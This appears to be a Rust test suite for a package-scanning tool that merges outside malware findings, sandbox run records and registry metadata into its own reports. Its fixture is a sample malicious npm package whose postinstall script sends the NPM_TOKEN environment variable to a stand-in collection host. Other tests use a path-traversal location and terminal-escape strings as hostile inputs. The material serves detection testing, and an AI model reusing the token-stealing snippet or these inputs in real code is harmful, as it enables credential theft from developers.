//! What others say of a package, from files, as `scan` and `sequence` tell it.

use std::fs;
use std::process::{Command, Output, Stdio};

use rstest::rstest;
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::common::constant_model::model;

const MANIFEST: &str = r#"{"name":"acme-sender","version":"1.2.3","scripts":{"postinstall":"node send.js"}}"#;
const CODE: &str = "const https = require('https');\nhttps.get('https://collect.example.com/?' + process.env.NPM_TOKEN);\nlet quiet = 1;\n";

/// A folder with a package in it.
fn package() -> TempDir {
    let folder = TempDir::new().unwrap();
    let root = folder.path().join("pkg");
    fs::create_dir_all(&root).unwrap();
    fs::write(root.join("package.json"), MANIFEST).unwrap();
    fs::write(root.join("send.js"), CODE).unwrap();
    folder
}

fn cerebro(folder: &TempDir, args: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_cerebro"));
    command.current_dir(folder).env("CEREBRO_CONFIG", folder.path()).stdin(Stdio::null());
    command.env("XDG_DATA_HOME", folder.path().join("data")).args(args).output().unwrap()
}

/// The document of `sequence` with these files of others, by name and content.
fn sequence(files: &[(&str, &Value)]) -> Value {
    let folder = package();
    let mut args = vec!["sequence", "pkg", "--format", "json", "--findings"];
    for (name, value) in files {
        fs::write(folder.path().join(name), value.to_string()).unwrap();
        args.push(name);
    }
    let output = cerebro(&folder, &args);
    assert_eq!(String::from_utf8_lossy(&output.stderr), "");
    serde_json::from_slice(&output.stdout).unwrap()
}

fn guarddog() -> Value {
    json!({
        "package": "acme-sender", "path": "/tmp/scan", "issues": 2, "errors": {},
        "results": {
            "typosquatting": "the name is close to acme-send",
            "threat-env-network": [{"location": "send.js:2", "code": "https.get(", "message": "posts the environment", "severity": "high"}],
        },
        "risk_score": {"score": 8.5, "label": "malicious"},
        "risks": [{
            "name": "risk.network.outbound", "category": "network", "severity": "high", "mitre_tactics": ["exfiltration"],
            "threat_identifies": "threat.network.outbound", "threat_rule": "threat-env-network",
            "threat_description": "posts the environment", "threat_location": "/tmp/scan/pkg/send.js:2",
            "threat_match": "process.env.NPM_TOKEN", "capability_identifies": null, "file_path": "send.js",
        }],
    })
}

fn sarif() -> Value {
    let place = |line: u32| {
        json!([{"physicalLocation": {
        "artifactLocation": {"uri": "pkg/send.js"}, "region": {"startLine": line, "startColumn": 1, "endColumn": 10}}}])
    };
    json!({"version": "2.1.0", "runs": [{
        "tool": {"driver": {"name": "acme-lint", "rules": [{"id": "net/get", "defaultConfiguration": {"level": "error"}}]}},
        "results": [
            {"ruleId": "net/get", "message": {"text": "talks to the network"}, "locations": place(2)},
            {"ruleId": "style", "level": "note", "message": {"text": "unused"}, "locations": place(3)},
            {"ruleId": "hidden", "message": {"text": "is suppressed"}, "suppressions": [{"kind": "external"}], "locations": place(1)},
            {"ruleId": "fine", "kind": "pass", "message": {"text": "passed"}, "locations": place(1)},
        ],
    }]})
}

fn yara() -> Value {
    let offset = CODE.find("process.env").unwrap();
    json!({"path": "work/pkg/send.js", "rules": [{"identifier": "env_access", "meta": [["description", "reads the environment"]],
        "strings": [{"identifier": "$a", "offset": offset, "match": "process.env"}]}]})
}

fn malcontent() -> Value {
    json!({"Files": {"/w/pkg/send.js": {"Path": "/w/pkg/send.js", "SHA256": "", "Size": 9, "RiskScore": 4, "RiskLevel": "CRITICAL",
        "Behaviors": [{"Description": "sends data", "MatchStrings": ["https.get"], "RiskScore": 4, "RiskLevel": "CRITICAL", "ID": "exfil/http"}]}}})
}

fn run_record() -> Value {
    json!({"Package": {"Name": "acme-sender", "Ecosystem": "npm", "Version": "1.2.3"}, "CreatedTimestamp": 1, "Analysis": {
        "install": {"Status": "completed", "Stdout": "",
            "Files": [
                {"Path": "/app/node_modules/x/y.js", "Read": false, "Write": true, "Delete": false},
                {"Path": "/root/.ssh/id_rsa", "Read": true, "Write": false, "Delete": false},
                {"Path": "/usr/lib/os-release", "Read": true, "Write": false, "Delete": false},
            ],
            "Sockets": [
                {"Address": "203.0.113.7", "Port": 443, "Hostnames": ["collect.example.com"]},
                {"Address": "203.0.113.53", "Port": 53, "Hostnames": []},
            ],
            "Commands": [{"Command": ["sh", "-c", "node send.js"], "Environment": []}],
            "DNS": [{"Class": "IN", "Queries": [
                {"Hostname": "collect.example.com", "Types": ["A"]}, {"Hostname": "other.invalid", "Types": ["A"]}]}]},
        "import": {"Status": "completed", "Files": [], "Sockets": [], "Commands": [], "DNS": []},
    }})
}

/// What the evidence of others says, with the text at its place.
fn told(document: &Value) -> Vec<(String, String)> {
    let list = document["evidence"].as_array().unwrap();
    let others = list.iter().filter(|known| !known["sources"].as_array().unwrap().is_empty());
    let at = |known: &Value| match known["place"]["span"].as_array() {
        Some(span) => CODE[span[0].as_u64().unwrap() as usize..span[1].as_u64().unwrap() as usize].to_owned(),
        None => String::new(),
    };
    others.map(|known| (known["what"].as_str().unwrap().to_owned(), at(known))).collect()
}

#[test]
fn each_format_is_told_by_its_content_and_placed_by_span() {
    for (value, source, what, at) in [
        (guarddog(), "GuardDog", "threat.network.outbound: posts the environment", "process.env.NPM_TOKEN"),
        (sarif(), "acme-lint", "net/get: talks to the network", "https.get"),
        (yara(), "YARA-X", "env_access: reads the environment", "process.env"),
        (malcontent(), "malcontent", "exfil/http: sends data", "https.get"),
    ] {
        let document = sequence(&[("findings.json", &value)]);
        let report = &document["external"]["reports"][0];
        assert_eq!((report["source"].as_str(), report["error"].as_str()), (Some(source), None), "{report}");
        let told = told(&document);
        let found = told.iter().find(|(said, _)| said.contains(what));
        let (said, text) = found.unwrap_or_else(|| panic!("{source}: {told:?}"));
        assert_eq!(text, at, "{said}");
        assert!(said.starts_with("pkg/send.js: ") || said.starts_with("send.js: "), "{said}");
    }
}

#[test]
fn what_means_the_same_place_is_one_and_marked_by_all_who_say_it() {
    let document =
        sequence(&[("a.json", &guarddog()), ("b.ndjson", &yara()), ("c.sarif", &sarif()), ("d.json", &malcontent())]);
    let evidence = document["evidence"].as_array().unwrap();
    let of = |source: &str| {
        evidence
            .iter()
            .filter(|known| known["sources"].as_array().unwrap().contains(&json!(source)))
            .collect::<Vec<_>>()
    };
    let same = of("YARA-X");
    assert_eq!(same.len(), 1);
    assert_eq!(same[0]["sources"], json!(["GuardDog", "YARA-X"]), "one evidence, both names");
    assert_eq!(same[0]["level"], "high");
    let ours = same[0]["ours"].as_array().unwrap();
    assert!(!ours.is_empty(), "the steps of the line are ours: {same:?}");
    assert_eq!(of("malcontent")[0]["sources"], json!(["acme-lint", "malcontent"]));
    let style = of("acme-lint").into_iter().find(|known| known["what"].as_str().unwrap().contains("unused")).unwrap();
    assert_eq!((style["level"].as_str(), style["ours"].as_array().map(Vec::len)), (Some("low"), Some(0)));
    let all = document["evidence"].to_string();
    assert!(!all.contains("suppressed") && !all.contains("passed"), "{all}");
    assert!(all.contains("the name is close to acme-send"), "what has no place is told too");
}

#[test]
fn a_run_elsewhere_stands_beside_the_steps_with_where_the_code_says_the_same() {
    let document = sequence(&[("run.json", &run_record())]);
    let seen: Vec<(String, bool)> = document["external"]["observed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|seen| {
            (
                format!(
                    "{} {} {}",
                    seen["phase"].as_str().unwrap(),
                    seen["act"].as_str().unwrap(),
                    seen["value"].as_str().unwrap()
                ),
                !seen["place"].is_null(),
            )
        })
        .collect();
    let expected = [
        ("install command sh -c node send.js", true),
        ("install connect collect.example.com (203.0.113.7):443", true),
        ("install dns collect.example.com", true),
        ("install dns other.invalid", false),
        ("install read /root/.ssh/id_rsa", false),
    ];
    assert_eq!(seen, expected.map(|(what, agreed)| (what.to_owned(), agreed)));
    assert_eq!(document["external"]["reports"][0]["left_out"], 3);
    let contradictions = document["external"]["contradictions"].to_string();
    assert!(
        contradictions.contains("other.invalid") && !contradictions.contains("collect.example.com"),
        "{contradictions}"
    );
}

#[test]
fn people_see_a_run_in_its_phase_and_what_others_say_behind_the_layers() {
    let folder = package();
    fs::write(folder.path().join("pkg.run.json"), run_record().to_string()).unwrap();
    fs::write(folder.path().join("pkg.guarddog.json"), guarddog().to_string()).unwrap();
    let output = cerebro(&folder, &["sequence", "pkg"]);
    let text = String::from_utf8(output.stdout).unwrap();
    let at = |what: &str| text.find(what).unwrap_or_else(|| panic!("{what} is missing in\n{text}"));
    assert!(at("install: postinstall") < at("install: seen when it ran"));
    assert!(at("  ran           sh -c node send.js  as package.json:1") < at("what others say"));
    at("named by no code that was read");
    at("GuardDog: 8.5 of 10, malicious  pkg.guarddog.json");
    at("contradiction  when it ran it talked to other.invalid");
}

#[rstest]
#[case::clean_where_we_flag(4.0, json!({"package": "a", "issues": 0, "errors": {}, "results": {}, "risk_score": {"score": 0, "label": "none"}, "risks": []}), "GuardDog finds nothing in it (0 of 10, none); the model flags it")]
#[case::flagged_where_we_do_not(-4.0, guarddog(), "GuardDog calls it malicious (8.5 of 10, malicious); the model does not flag it")]
fn contradictions_are_told_and_have_no_vote(#[case] margin: f32, #[case] value: Value, #[case] expected: &str) {
    let folder = package();
    fs::write(folder.path().join("f.json"), value.to_string()).unwrap();
    let model = model(folder.path(), margin);
    let scan = |with: &[&str]| {
        let args = [&["scan", "pkg", "--device", "cpu", "--model", model.to_str().unwrap(), "--format", "jsonl"], with]
            .concat();
        serde_json::from_slice::<Value>(&cerebro(&folder, &args).stdout).unwrap()
    };
    let (without, with) = (scan(&[]), scan(&["--findings", "f.json"]));
    assert_eq!(without["external"], Value::Null);
    assert_eq!(with["external"]["contradictions"], json!([expected]));
    assert_eq!((&with["probability"], &with["state"]), (&without["probability"], &without["state"]));
}

#[rstest]
#[case::no_json(b"{".to_vec(), "it is no valid JSON")]
#[case::empty(Vec::new(), "it is empty")]
#[case::another_kind(b"{\"a\":1}".to_vec(), "of a kind that is not known")]
#[case::deep([b"[".repeat(100_000), b"]".repeat(100_000)].concat(), "it is no valid JSON")]
#[case::control(b"\x1b[2J".to_vec(), "it is no valid JSON")]
fn a_file_that_says_nothing_is_an_error_where_it_was_named(#[case] bytes: Vec<u8>, #[case] why: &str) {
    let folder = package();
    fs::write(folder.path().join("f.json"), &bytes).unwrap();
    let output = cerebro(&folder, &["sequence", "pkg", "--findings", "f.json"]);
    let said = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(2), "{said}");
    assert!(said.contains("f.json") && said.contains(why), "{said}");
    assert!(!said.trim_end().contains(char::is_control), "{said:?}");
    // Beside the package it is told, and takes nothing from what was found.
    fs::rename(folder.path().join("f.json"), folder.path().join("pkg.f.json")).unwrap();
    let output = cerebro(&folder, &["sequence", "pkg", "--format", "json"]);
    let document: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert!(document["external"]["reports"][0]["error"].as_str().unwrap().contains(why), "{document}");
    assert!(!document["steps"].as_array().unwrap().is_empty());
}

#[test]
fn hostile_findings_are_marks_and_point_nowhere_beyond_the_package() {
    let place = |location: &str| json!({"location": location, "message": "a\u{1b}[2J\u{202e}b", "severity": "high"});
    let value = json!({"issues": 3, "errors": {}, "results": {"r\u{7}": [
        place("../../../etc/passwd:1"), place("send.js:999999999999999999999"), place("send.js:99999"), place("")]}});
    let folder = package();
    fs::write(folder.path().join("f.json"), value.to_string()).unwrap();
    let output = cerebro(&folder, &["sequence", "pkg", "--findings", "f.json"]);
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(text.contains("finding") && !text.contains(['\u{1b}', '\u{202e}', '\u{7}']), "{text}");
    let document = sequence(&[("f.json", &value)]);
    let findings = document["external"]["findings"].as_array().unwrap();
    assert!(findings.iter().all(|found| found["place"].is_null() || found["place"]["span"].is_null()), "{findings:?}");
}

#[test]
fn too_many_files_and_files_of_another_package_are_refused() {
    let folder = package();
    fs::write(folder.path().join("f.json"), guarddog().to_string()).unwrap();
    let many = ["f.json"; 33];
    let output = cerebro(&folder, &[&["sequence", "pkg", "--findings"], many.as_slice()].concat());
    assert!(String::from_utf8_lossy(&output.stderr).contains("name at most 32"));
    let output = cerebro(&folder, &["--findings", "f.json"]);
    assert_eq!(output.status.code(), Some(2));
}

/// A packed package of this name and version, with what `sequence` says of it beside these files.
fn packed(name: &str, members: &[(&str, &[u8])], files: &[(&str, Value)]) -> Value {
    let folder = TempDir::new().unwrap();
    fs::write(folder.path().join(name), crate::common::archives::tgz(members)).unwrap();
    for (file, value) in files {
        fs::write(folder.path().join(format!("{name}.{file}")), value.to_string()).unwrap();
    }
    let output = cerebro(&folder, &["sequence", name, "--format", "json"]);
    assert_eq!(String::from_utf8_lossy(&output.stderr), "");
    serde_json::from_slice(&output.stdout).unwrap()
}

fn npm_members() -> [(&'static str, &'static [u8]); 2] {
    [("package/package.json", MANIFEST.as_bytes()), ("package/send.js", CODE.as_bytes())]
}

fn packument(integrity: &str) -> Value {
    let version = |number: &str, user: &str, scripts: Value, integrity: &str| {
        json!({
        "name": "acme-sender", "version": number, "scripts": scripts, "_npmUser": {"name": user},
        "dependencies": {"acme-more": "^1"}, "dist": {"integrity": integrity, "tarball": "https://example.com/x.tgz"}})
    };
    json!({"name": "acme-sender", "maintainers": [{"name": "anna"}],
    "time": {"created": "2023-01-01T00:00:00.000Z", "1.2.2": "2023-01-01T00:00:00.000Z", "1.2.3": "2026-01-01T10:20:00.000Z"},
    "versions": {
        "1.2.2": version("1.2.2", "anna", json!({"test": "x"}), "sha512-AAAA"),
        "1.2.3": version("1.2.3", "mallory", json!({"postinstall": "node other.js"}), integrity),
    }})
}

fn texts(document: &Value) -> Vec<String> {
    let facts = document["external"]["registry"]["facts"].as_array().unwrap().iter();
    facts.map(|fact| fact["text"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn a_packument_tells_who_published_when_and_what_does_not_match() {
    let document = packed("acme-sender-1.2.3.tgz", &npm_members(), &[("packument.json", packument("sha512-AAAA"))]);
    assert_eq!(
        texts(&document),
        [
            "published 2026-01-01 10:20 UTC: the newest, after 1 release",
            "1096 days after the release before it, 1.2.2",
            "published by mallory, who published none of the 1 before it (anna did)",
            "it is the first release that runs a script on installation (postinstall)",
            "may be published by anna",
        ]
    );
    let mismatches = document["external"]["registry"]["mismatches"].as_array().unwrap();
    let all = mismatches.iter().map(|what| what.as_str().unwrap()).collect::<Vec<_>>().join("\n");
    for what in [
        "the archive is not the one that the registry published as 1.2.3: its sha512 is ",
        "the script postinstall is \"node send.js\" in the package and \"node other.js\" in the registry",
        "the registry shows what the package does not need: acme-more",
    ] {
        assert!(all.contains(what), "{what} is missing in {all}");
    }
    let evidence = document["evidence"].as_array().unwrap();
    assert_eq!(evidence.iter().filter(|known| known["kind"] == "registry").count(), 3);
}

#[test]
fn the_hash_of_the_published_archive_is_recognised() {
    use base64::Engine as _;
    use sha2::Digest as _;
    let archive = crate::common::archives::tgz(&npm_members());
    let integrity =
        format!("sha512-{}", base64::engine::general_purpose::STANDARD.encode(sha2::Sha512::digest(&archive)));
    let document = packed("acme-sender-1.2.3.tgz", &npm_members(), &[("packument.json", packument(&integrity))]);
    assert!(texts(&document).contains(&"its sha512 is the one that the registry keeps".to_owned()), "{document}");
    assert!(!document["external"]["registry"]["mismatches"].to_string().contains("not the one"));
}

#[test]
fn pypi_tells_hashes_by_file_and_an_attestation_where_it_was_built() {
    use base64::Engine as _;
    let members: [(&str, &[u8]); 2] = [
        ("acme_demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: acme-demo\nVersion: 1.0\nHome-page: https://example.com/anna/acme\nRequires-Dist: acme-hidden\n"),
        ("acme_demo-1.0/setup.py", b"from setuptools import setup\nsetup(name='acme-demo')\n"),
    ];
    let project = json!({
        "info": {"name": "acme_demo", "version": "1.0", "requires_dist": ["acme-shown>=1"]},
        "urls": [],
        "releases": {"1.0": [
            {"filename": "acme_demo-1.0-py3-none-any.whl", "digests": {"sha256": "22"}, "upload_time_iso_8601": "2026-02-03T04:05:06.789Z", "yanked": true},
            {"filename": "acme_demo-1.0.tar.gz", "digests": {"sha256": "00"}, "upload_time_iso_8601": "2026-02-15T04:05:07Z", "yanked": true}]}});
    let statement =
        json!({"subject": [{"name": "acme_demo-1.0.tar.gz", "digest": {"sha256": "11"}}], "predicateType": "x"});
    let statement = base64::engine::general_purpose::STANDARD.encode(statement.to_string());
    let provenance = json!({"version": 1, "attestation_bundles": [{
        "publisher": {"kind": "GitHub", "repository": "mallory/acme"}, "attestations": [{"envelope": {"statement": statement}}]}]});
    let document = packed("acme_demo-1.0.tar.gz", &members, &[("pypi.json", project), ("provenance.json", provenance)]);
    let facts = texts(&document).join("\n");
    assert!(
        facts.contains("published 2026-02-03 04:05 UTC: the only release") && facts.contains("withdrawn"),
        "{facts}"
    );
    assert!(facts.contains("added 12 days after the first of the release, acme_demo-1.0-py3-none-any.whl"), "{facts}");
    assert!(
        facts.contains("an attestation, not verified here, says that it was built in GitHub mallory/acme"),
        "{facts}"
    );
    let mismatches = document["external"]["registry"]["mismatches"].as_array().unwrap();
    let all = mismatches.iter().map(|what| what.as_str().unwrap()).collect::<Vec<_>>().join("\n");
    for what in [
        "the registry published as 1.0: its sha256 is ",
        "what was attested as acme_demo-1.0.tar.gz has 11",
        "the package names https://example.com/anna/acme; the attestation says GitHub mallory/acme",
        "the package needs what the registry does not show: acme-hidden",
        "the registry shows what the package does not need: acme-shown",
    ] {
        assert!(all.contains(what), "{what} is missing in {all}");
    }
}

#[test]
fn metadata_of_another_package_or_version_is_said_to_be() {
    let mut other = packument("sha512-AAAA");
    other["name"] = json!("acme-else");
    other["versions"].as_object_mut().unwrap().remove("1.2.3");
    let document = packed("acme-sender-1.2.3.tgz", &npm_members(), &[("p.json", other)]);
    assert_eq!(
        document["external"]["registry"]["mismatches"],
        json!([
            "the package says that it is acme-sender; the registry calls it acme-else",
            "the package says that it is version 1.2.3; the registry has 1 release and not that one (the newest is 1.2.2)",
        ])
    );
}

#[test]
fn a_flood_of_findings_and_acts_is_listed_up_to_a_bound_and_counted() {
    let at = |line: usize| json!({"location": format!("send.js:{}", line % 3 + 1), "message": format!("m{line}"), "severity": "low"});
    let findings = json!({"issues": 6000, "errors": {}, "results": {"r": (0..6000).map(at).collect::<Vec<_>>()}});
    let query = |number: usize| json!({"Hostname": format!("h{number}.invalid"), "Types": ["A"]});
    let run = json!({"Package": {}, "Analysis": {"install": {"DNS": [{"Queries": (0..6000).map(query).collect::<Vec<_>>()}]}}});
    let document = sequence(&[("a.json", &findings), ("b.json", &run)]);
    for report in document["external"]["reports"].as_array().unwrap() {
        assert_eq!((report["listed"].as_u64(), report["left_out"].as_u64()), (Some(5000), Some(1000)), "{report}");
    }
    let told = told(&document);
    assert_eq!(told.len(), 3, "one for each line");
    assert!(told.iter().all(|(what, _)| what.len() < 1000 && what.contains(" more")), "{told:?}");
}
